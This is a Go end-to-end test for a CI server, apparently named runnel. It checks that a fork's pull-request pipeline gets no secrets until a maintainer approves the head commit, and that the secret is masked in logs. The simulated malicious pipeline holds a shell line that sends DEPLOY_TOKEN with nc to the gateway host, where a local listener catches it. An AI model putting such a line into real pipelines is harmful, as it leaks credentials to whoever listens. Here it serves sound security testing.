package e2e

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
)

// forkPipeline is a fork's pipeline that prints its environment and tries
// to send the repository's secret to a listener on the Docker host, from
// a stage that does not ask for it (build) and one that does (publish),
// and has a production deployment stage.
func forkPipeline(port int) string {
	send := fmt.Sprintf(`gw=$(ip route | awk '/default/ {print $3}'); echo "$1 token=[$DEPLOY_TOKEN]" | nc -w 3 $gw %d`, port)
	return `version: 1
stages:
  build:
    image: runnel-test/busybox:latest
    steps:
      - name: env
        run: |
          env | sort
          if [ -e .git ]; then echo "workspace has .git"; else echo "workspace without .git"; fi
          set -- build; ` + send + `
  publish:
    image: runnel-test/busybox:latest
    needs: [build]
    secrets: [DEPLOY_TOKEN]
    steps:
      - name: send
        run: |
          env | sort
          test -n "$DEPLOY_TOKEN" && echo "token length ${#DEPLOY_TOKEN}"
          set -- publish; ` + send + `
  deploy:
    image: runnel-test/busybox:latest
    needs: [publish]
    environment: production
    secrets: [DEPLOY_TOKEN]
    steps:
      - name: ship
        run: set -- deploy; ` + send + `
`
}

// sink is a TCP listener on every interface (step containers reach it
// through their gateway) that keeps the lines it receives.
type sink struct {
	ln    net.Listener
	mu    sync.Mutex
	lines []string
	wg    sync.WaitGroup
}

func newSink(t *testing.T) *sink {
	t.Helper()
	ln, err := net.Listen("tcp", "0.0.0.0:0")
	if err != nil {
		t.Fatal(err)
	}
	s := &sink{ln: ln}
	s.wg.Add(1)
	go func() {
		defer s.wg.Done()
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			s.wg.Add(1)
			go func() {
				defer s.wg.Done()
				defer conn.Close()
				conn.SetDeadline(time.Now().Add(5 * time.Second))
				sc := bufio.NewScanner(io.LimitReader(conn, 64<<10))
				for sc.Scan() {
					s.mu.Lock()
					s.lines = append(s.lines, sc.Text())
					s.mu.Unlock()
				}
			}()
		}
	}()
	t.Cleanup(func() { ln.Close(); s.wg.Wait() })
	return s
}

func (s *sink) port() int { return s.ln.Addr().(*net.TCPAddr).Port }

func (s *sink) got() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return strings.Join(s.lines, "\n")
}

// forkRun is what the test reads of a run.
type forkRun struct {
	ID           int64  `json:"id"`
	Status       string `json:"status"`
	HeadApproval *struct {
		Approved   bool   `json:"approved"`
		ApprovedBy string `json:"approved_by"`
	} `json:"head_approval"`
	Stages []struct {
		ID            string `json:"id"`
		Status        string `json:"status"`
		PendingReason string `json:"pending_reason"`
		Steps         []step `json:"steps"`
	} `json:"stages"`
}

func (r forkRun) stage(id string) (status, pending string) {
	for _, st := range r.Stages {
		if st.ID == id {
			return st.Status, st.PendingReason
		}
	}
	return "", ""
}

// poll calls cond every 200 ms until it holds, failing the test after d.
func poll(t *testing.T, d time.Duration, what string, cond func() bool) {
	t.Helper()
	tick := time.NewTicker(200 * time.Millisecond)
	defer tick.Stop()
	deadline := time.Now().Add(d)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatalf("%s: not within %s", what, d)
		}
		<-tick.C
	}
}

// TestForkPullRequest is the acceptance of untrusted pull requests: a
// signed GitHub pull_request webhook from a fork runs the fork's pipeline
// without the secret (its build stage runs, the stage asking for the
// secret waits for a maintainer, nothing reaches the listener, no
// deployment); `runnel approve` of that head commit gives the held stage
// its secret (the listener receives it, the log masks it), still with no
// deployment (no environment accepts a pull request); a new push to the
// pull request waits again.
func TestForkPullRequest(t *testing.T) {
	needDocker(t)
	dir := t.TempDir()
	const name, secret, value = "acme/app", "fork-e2e-webhook", "fork-e2e-deploy-token-5d1c"
	ln := newSink(t)
	bare := filepath.Join(dir, "app.git")
	git(t, dir, "init", "-q", "--bare", "--initial-branch=main", bare)
	work := filepath.Join(dir, "work")
	git(t, dir, "clone", "-q", bare, work)
	git(t, work, "checkout", "-q", "-b", "main")
	base := commit(t, work, "version: 1\nstages: {}\n")
	git(t, work, "push", "-q", "origin", "main")
	git(t, work, "checkout", "-q", "-b", "feature")
	head := commit(t, work, forkPipeline(ln.port()))
	git(t, work, "push", "-q", "origin", "feature:refs/pull/7/head")

	srv := startServer(t, dir, "")
	srv.createRepo(map[string]any{"name": name, "forge": "github", "clone_url": bare, "secret": secret})
	declareEnvironment(t, srv, name, "production", []string{"main", "feature"})
	srv.setSecret(name, "DEPLOY_TOKEN", value)

	hook := func(action, sha string) {
		t.Helper()
		body := fixture(t, "pull_request.opened.json", func(m map[string]any) {
			m["action"], m["number"] = action, 7
			repo := obj(m, "repository")
			repo["full_name"], repo["clone_url"] = name, bare
			pr := obj(m, "pull_request")
			pr["number"] = 7
			h, b := obj(pr, "head"), obj(pr, "base")
			h["ref"], h["sha"] = "feature", sha
			obj(h, "repo")["id"], obj(h, "repo")["full_name"] = 4242, "mallory/app"
			b["ref"], b["sha"] = "main", base
			obj(b, "repo")["full_name"] = name
		})
		code, b := srv.do("POST", "/hooks/github", bytes.NewReader(body), map[string]string{"Content-Type": "application/json",
			"X-GitHub-Event": "pull_request", "X-GitHub-Delivery": "fork-" + action + "-" + sha[:8], "X-Hub-Signature-256": sign(secret, body)})
		if code != http.StatusAccepted {
			t.Fatalf("pull_request %s webhook: %d %s", action, code, b)
		}
	}
	get := func(id int64) forkRun {
		t.Helper()
		code, b := srv.api("GET", fmt.Sprintf("/api/v1/runs/%d", id))
		var r forkRun
		if err := json.Unmarshal(b, &r); code != 200 || err != nil {
			t.Fatalf("get run %d: %d %s", id, code, b)
		}
		return r
	}
	waitHeld := func(sha string) forkRun {
		t.Helper()
		var r forkRun
		want := "waiting for a maintainer to approve this pull request's head " + sha[:7]
		poll(t, 3*time.Minute, "run of "+sha[:8]+" built, publish held", func() bool {
			for _, l := range srv.runs("limit=50") {
				if l.Commit == sha {
					r = get(l.ID)
				}
			}
			build, _ := r.stage("build")
			_, pending := r.stage("publish")
			return build == "success" && pending == want
		})
		return r
	}

	hook("opened", head)
	r := waitHeld(head)
	if _, p := r.stage("deploy"); p != "" || len(r.Stages) != 2 {
		t.Errorf("stages %+v: want build and publish only (no environment accepts a pull request)", r.Stages)
	}
	if r.HeadApproval == nil || r.HeadApproval.Approved {
		t.Errorf("head_approval %+v, want present and not approved", r.HeadApproval)
	}
	if got := ln.got(); strings.Contains(got, value) || !strings.Contains(got, "build token=[]") {
		t.Fatalf("listener before approval got %q: want the build stage's empty token only", got)
	}
	if buildLog := stepLog(t, srv, r, "build"); !strings.Contains(buildLog, "workspace without .git") || strings.Contains(buildLog, "DEPLOY_TOKEN") {
		t.Errorf("build log: want a workspace without .git and no DEPLOY_TOKEN:\n%s", buildLog)
	}

	out := runnel(t, "approve", fmt.Sprint(r.ID), "--commit", head, "--server", srv.url, "--token", srv.token)
	if !strings.Contains(out, "approved by") {
		t.Errorf("runnel approve: %s", out)
	}
	poll(t, 3*time.Minute, "approved run finished", func() bool { r = get(r.ID); return terminal(run{Status: r.Status}) })
	if r.Status != "success" || r.HeadApproval == nil || !r.HeadApproval.Approved || r.HeadApproval.ApprovedBy == "" {
		t.Fatalf("approved run: %s, head_approval %+v; want success, approved by someone\nserver log:\n%s", r.Status, r.HeadApproval, srv.log())
	}
	if got := ln.got(); !strings.Contains(got, "publish token=["+value+"]") {
		t.Errorf("listener after approval got %q: want the publish stage's secret", got)
	}
	pubLog := stepLog(t, srv, r, "publish")
	if strings.Contains(pubLog, value) || !strings.Contains(pubLog, "DEPLOY_TOKEN=***") || !strings.Contains(pubLog, fmt.Sprintf("token length %d", len(value))) {
		t.Errorf("publish log: want the secret present, its length shown and its value masked:\n%s", pubLog)
	}
	if ds := deploymentsOf(t, srv, r.ID); len(ds) != 0 {
		t.Errorf("deployments of the fork's run: %+v, want none", ds)
	}

	next := commit(t, work, forkPipeline(ln.port())+"# a new push\n")
	git(t, work, "push", "-q", "-f", "origin", "feature:refs/pull/7/head")
	hook("synchronize", next)
	r2 := waitHeld(next)
	if r2.HeadApproval == nil || r2.HeadApproval.Approved {
		t.Errorf("new head: head_approval %+v, want not approved", r2.HeadApproval)
	}
	if n := strings.Count(ln.got(), value); n != 1 {
		t.Errorf("listener got the secret %d times, want once (the approved head only)", n)
	}
	if code, b := srv.api("POST", fmt.Sprintf("/api/v1/runs/%d/cancel", r2.ID)); code != 200 {
		t.Errorf("cancel the waiting run: %d %s", code, b)
	}
}

// stepLog returns the log of the first step of stage id of r.
func stepLog(t *testing.T, srv *server, r forkRun, id string) string {
	t.Helper()
	for _, st := range r.Stages {
		if st.ID == id && len(st.Steps) > 0 {
			code, b := srv.api("GET", st.Steps[0].Log)
			if code != 200 {
				t.Fatalf("log of %s: %d %s", id, code, b)
			}
			return string(b)
		}
	}
	t.Fatalf("run %d has no stage %s with steps", r.ID, id)
	return ""
}
